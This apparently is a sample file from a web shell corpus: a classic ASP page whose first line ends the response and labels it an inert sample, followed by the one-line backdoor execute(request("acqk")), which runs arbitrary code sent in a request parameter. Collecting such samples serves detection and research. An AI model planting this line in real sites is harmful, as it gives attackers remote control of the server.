<% Response.End ' hegui corpus: inert sample - the page ends here %>
<%execute(request("acqk"))%>
